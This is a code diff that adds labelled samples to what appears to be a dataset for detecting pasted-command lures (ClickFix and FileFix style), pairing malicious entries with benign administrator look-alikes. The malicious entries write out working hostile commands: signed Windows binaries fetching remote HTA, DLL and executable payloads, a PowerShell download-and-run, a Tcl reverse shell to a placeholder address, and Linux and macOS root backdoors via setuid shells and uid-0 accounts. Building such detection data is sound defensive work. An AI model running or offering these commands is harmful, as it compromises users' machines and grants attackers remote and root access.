@@ -1054,6 +1054,81 @@ lures(
     ],
 )
 
+# ---- The same middlemen pasted into File Explorer's address bar (FileFix) -------------------
+# mrd0x FileFix (2025-06) and its kin (Kaspersky, Acronis): the command, then spaces and a fake
+# document path after `#`, pasted into Explorer's address bar from a "shared file" page.
+FILEFIX = [
+    "https://share.brambleton-gate.test/hr/policy",
+    "https://docs-portal.example/file/0x7a",
+]
+_PAD = " " * 60 + "# C:\\Company\\HR\\Policies\\Leave-Policy-2026.docx"
+lures(
+    "filefix-middlemen",
+    "windows",
+    "explorer_bar",
+    FILEFIX,
+    [
+        f"pcalua.exe -a {DAV}\\v\\open.exe" + _PAD,
+        'forfiles /p C:\\Windows\\System32 /m notepad.exe /c "mshta https://192.0.2.75/f.hta"'
+        + _PAD,
+        'wmic process call create "mshta https://docs-portal.example/d.hta"' + _PAD,
+        'schtasks /create /tn DocSync /sc onlogon /tr "mshta https://192.0.2.76/s.hta" /f' + _PAD,
+        "InstallUtil.exe /logfile= /LogToConsole=false /U \\\\203.0.113.77@SSL\\d\\i.dll" + _PAD,
+        'powershell -version 2 -w h -c "iex(iwr https://share.brambleton-gate.test/p)"' + _PAD,
+    ],
+)
+
+# ---- Third round: signed starters, Tcl, root back doors ---------------------------------------
+# LOLBAS Zipfldr / Pcwutl / Ieadvpack / Wlrmdr / Squirrel (Update.exe); GTFOBins tclsh; the
+# set-user-ID shell and the second uid-0 account that "fix your server" pastes leave behind.
+lures(
+    "signed-starters",
+    "windows",
+    "run_dialog",
+    CAPTCHA,
+    [
+        "rundll32 zipfldr.dll,RouteTheCall %TEMP%\\v.exe",
+        "rundll32.exe pcwutl.dll,LaunchApplication %PUBLIC%\\upd.exe",
+        "rundll32 advpack.dll,RegisterOCX %APPDATA%\\s.exe",
+        "wlrmdr.exe -s 3600 -f 0 -t _ -m _ -a 11 -u %TEMP%\\v.exe",
+        "%LOCALAPPDATA%\\Microsoft\\Teams\\current\\Squirrel.exe --download https://192.0.2.83/pkg",
+        "%LOCALAPPDATA%\\Discord\\Update.exe --update=https://quenby.invalid/rel",
+    ],
+)
+lures(
+    "tcl-reverse-shell",
+    "linux",
+    "terminal",
+    LINUX,
+    [
+        'echo \'set s [socket 198.51.100.4 4444];while 42 { puts -nonewline $s "> ";flush $s;gets $s c;'
+        'set e "exec $c";if {![catch {set r [eval $e]} err]} { puts $s $r }; flush $s; }; close $s;\' | tclsh',
+    ],
+)
+lures(
+    "root-backdoor",
+    "linux",
+    "terminal",
+    LINUX,
+    [
+        "sudo chmod u+s /bin/bash",
+        "sudo cp /bin/bash /tmp/.sysd && sudo chmod +s /tmp/.sysd",
+        "sudo useradd -m -o -u 0 -s /bin/bash helpdesk && echo 'helpdesk:Welcome2026!' | sudo chpasswd",
+        "echo 'sysupd::0:0::/root:/bin/bash' | sudo tee -a /etc/passwd >/dev/null",
+        "sudo chmod 4755 /bin/sh",
+    ],
+)
+lures(
+    "root-backdoor-mac",
+    "macos",
+    "terminal",
+    MAC,
+    [
+        "sudo dscl . -create /Users/support UniqueID 0",
+        "sudo cp /bin/zsh /Users/Shared/.z && sudo chmod u+s /Users/Shared/.z",
+    ],
+)
+
 # ---- Look-alikes: what admins and developers really run ------------------------------------
 benign(
     "windows-admin-proxies",
@@ -1069,6 +1144,9 @@ benign(
         "msbuild MyApp.sln /p:Configuration=Release /m",
         "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe C:\\Services\\Ingest\\IngestService.exe",
         "regasm /codebase /tlb C:\\Addins\\ExcelTools.dll",
+        "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe /u "
+        "C:\\Services\\Ingest\\IngestService.exe",
+        "regsvcs /u C:\\COM\\Contoso.Billing.dll",
         "expand -F:* C:\\Temp\\driver.cab C:\\Temp\\driver",
         "esentutl /g C:\\Data\\store.edb",
         "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Greenshot /d "
@@ -1195,6 +1273,38 @@ benign(
         "lua -e \"print(require('socket')._VERSION)\"",
         "xterm -display :0 &",
         "Get-Content $PROFILE",
+    ],
+)
+benign(
+    "admin-more-third",
+    "any",
+    "terminal",
+    WIKI,
+    [
+        "powershell.exe -Version 2.0 -NoProfile -File .\\legacy.ps1",
+        'schtasks /create /tn "Chrome update" /tr "\\"C:\\Program Files\\Google\\Update\\GoogleUpdate.exe\\" '
+        '/ua" /sc hourly',
+        "launchctl bootstrap gui/$(id -u) ~/Library/LaunchAgents/com.example.backup.plist",
+        "msbuild build.proj /t:Pack /p:Version=1.2.3",
+        "Set-Clipboard -Value (Get-Content .\\address.txt)",
+        "python3 -c \"import socket; s=socket.create_connection(('db.corp.example',5432),3); print('open')\"",
+        "nc -vz db.corp.example 5432",
+        "Get-Content .\\deploy.ps1 -Raw | Invoke-Expression",
+        "wmic process where \"name='notepad.exe'\" call terminate",
+    ],
+)
+benign(
+    "setuid-and-accounts-admin",
+    "any",
+    "terminal",
+    ARCH,
+    [
+        "sudo chmod u+s /usr/bin/ping",
+        "chmod 755 /usr/local/bin/tool",
+        "sudo useradd -m -s /bin/bash deploy",
+        "grep ':0:' /etc/passwd",
+        "%LOCALAPPDATA%\\Microsoft\\Teams\\Update.exe --processStart Teams.exe",
+        "rundll32 printui.dll,PrintUIEntry /il",
     ],
 )
 benign(
